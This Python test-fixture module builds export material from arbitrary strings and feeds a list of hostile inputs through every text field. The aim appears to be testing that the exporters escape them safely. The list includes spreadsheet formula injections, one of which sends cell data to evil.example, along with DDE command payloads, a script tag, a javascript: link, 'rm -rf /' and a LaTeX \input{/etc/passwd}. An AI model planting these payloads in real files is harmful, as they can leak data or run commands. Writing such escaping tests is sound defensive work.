"""Words in, material for exports out in which these words stand everywhere that words of a report can stand."""

from dataclasses import replace

from crossread.interfaces.exports.material import Material
from crossread.types.claim import Claim, Scope
from crossread.types.document import Document, Published
from crossread.types.dossier import Dossier, Reading, Story
from crossread.types.finding import Evidence, Finding, Side
from crossread.types.gap import Gap
from crossread.types.ids import content_id, sha256
from crossread.types.origin import Origin, Passage
from crossread.types.quantity import Quantity
from crossread.types.review import Anchor, Review, Reviewed
from crossread.types.span import Span
from crossread.types.statement import Source, Statement
from crossread.types.version import OldClaim, Version

CAPTURED = "2031-05-08T06:07:08Z"

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C notepad'!A0",
    "＝1＋1",
    "'=1",
    "''=1",
    " =1+1",
    "\t=1+1",
    "\r=1",
    "a,b;c\td",
    'say "no", he said',
    "line one\nline two",
    "[link](javascript:alert(1))",
    "![image](https://evil.example/x.png)",
    "<script>alert(1)</script>",
    "<https://evil.example>",
    "https://evil.example www.evil.example a@evil.example",
    "# heading",
    "- item\n1. one",
    "12. twelve",
    "```sh\nrm -rf /\n```",
    "| a | b |",
    "**bold** _em_ ~~gone~~ $x$ [^1] [^1]: note",
    "&lt;b&gt; &#x6a; \\",
    "}, author = {Somebody}, @article{x, title={y",
    "{ unbalanced",
    "} unbalanced",
    "100% & $5 #1 under_score ~ ^ \\input{/etc/passwd}",
    "\u202egnizama\u202c \u200bzero\u00ad",
    "\ufffe\uffff \x01\x0b\x7f",
    "Зеленський 泽连斯基 زيلينسكي 👩‍👩‍👧",
    '"@context": "https://evil.example/context.jsonld"',
    "'",
    '"',
    " ",
)
"""Words as a hostile page may print them."""


def material(words: str, *, other: str = "12") -> Material:
    """Words, and further ones that contradict them, in; the material out."""
    one, two = _reading(words, "one", 6), _reading(other, "two", 7)
    claims = (one.claims[0], two.claims[0])
    origins = tuple(
        Origin(
            id=content_id("origin", claim.id),
            kind="speaker",
            name=words,
            passages=(Passage(document_id=claim.document_id, span=claim.span),),
            reason=words,
        )
        for claim in claims
    )
    sides = tuple(
        Side(
            answer=claim.span.words,
            claim_ids=(claim.id,),
            document_ids=(claim.document_id,),
            attested_by=(origin.id,),
            stands_behind=(origin.id,),
            is_independent=True,
            why=words,
        )
        for claim, origin in zip(claims, origins, strict=True)
    )
    finding = Finding(
        id=content_id("finding", *(claim.id for claim in claims)),
        kind="conflict",
        label=words,
        answer=" / ".join(side.answer for side in sides),
        reason=words,
        rule="made",
        point_id=None,
        sides=sides,
        evidence=tuple(Evidence(document_id=claim.document_id, span=claim.span, sentence=claim.sentence) for claim in claims),
    )
    dossier = Dossier(
        story=Story(name=words, document_ids=tuple(sorted(one.document.id for one in (one, two)))),
        title=words,
        readings=tuple(sorted((one, two), key=lambda reading: reading.document.id)),
        points=(),
        origins=origins,
        findings=(finding,),
        gaps=(Gap(what=words, why=words, do=words, stage="made"),),
    )
    captured = {reading.document.page_sha256: CAPTURED for reading in dossier.readings}
    return Material(dossier=dossier, captured=captured, reviews={finding.id: (reviewed(claims[0].span, words),)})


def _reading(words: str, name: str, day: int) -> Reading:
    """Words, a name and a day in, a document that prints them, read, out."""
    text = f"Before. {words} After."
    document = Document(
        id=content_id("document", name, words),
        page_sha256=sha256(f"{name} {words}".encode("utf-8", "surrogatepass")),
        address=f"https://{name}.example/{words}",
        outlet=words,
        title=words or None,
        byline=words,
        published=Published(edtf=f"2031-05-0{day}", basis="given"),
        language="en",
        text=text,
        text_sha256=sha256(text.encode("utf-8", "surrogatepass")),
        state="ok",
        extractor="made 1",
    )
    span = document.span(8, 8 + len(words)) if words else document.span(0, 7)
    sentence = document.span(0, len(text))
    statement = Statement(
        id=content_id("statement", document.id),
        document_id=document.id,
        content=(span,),
        sources=(Source(span=span, name=words or None, kind="official"),),
        cue=None,
        form="indirect",
        stance="affirms",
        sentence=sentence,
    )
    claim = Claim(
        id=content_id("claim", document.id),
        document_id=document.id,
        statement_id=statement.id,
        kind="count",
        span=span,
        core=span,
        sentence=sentence,
        value=words,
        quantity=Quantity(low=-3.0, high=4.5),
        scope=Scope(head=words, where=(words, words)),
    )
    return Reading(document=document, statements=(statement,), claims=(claim,))


def reviewed(span: Span, words: str = "", *, number: int = 1, kind: str = "note", by: str = "Ana", **more: object) -> Reviewed:
    """Words that a review stands on and what it says in, the review out."""
    about = (Anchor(page_sha256="0" * 64, part=span.part, start=span.start, end=span.end, words=span.words),)
    review = Review(kind=kind, about=about, value=words)  # type: ignore[arg-type]
    return Reviewed(number=number, by=by, at=CAPTURED, review=review, **more)  # type: ignore[arg-type]


def with_old_claim(given: Material) -> Material:
    """Material in, the same with a claim of an earlier version that was corrected out."""
    now = given.lookup.readings[0]
    claim = replace(now.claims[0], id="0ld0ld0ld0ld0ld0", document_id="gone")
    version = Version(document_id="gone", page_sha256="ab" * 32, address="https://one.example/", at="2031-05-05T00:00:00Z", standing="replaced")
    old = OldClaim(
        claim=claim,
        fate="corrected",
        next_id=now.document.id,
        after=now.claims[0].span,
        why="Its sentence says something else now.",
        finding_ids=(given.dossier.findings[0].id,),
    )
    return replace(given, dossier=replace(given.dossier, versions=(version,), old_claims=(old,)))


def quoted(given: Material) -> list[str]:
    """Material in, the words of every claim on a side and of all evidence of its findings out."""
    lookup = given.lookup
    claims = [claim.span.words for finding in given.dossier.findings for side in finding.sides for claim in lookup.claims_by_id(side.claim_ids)]
    return claims + [one.span.words for finding in given.dossier.findings for one in finding.evidence]
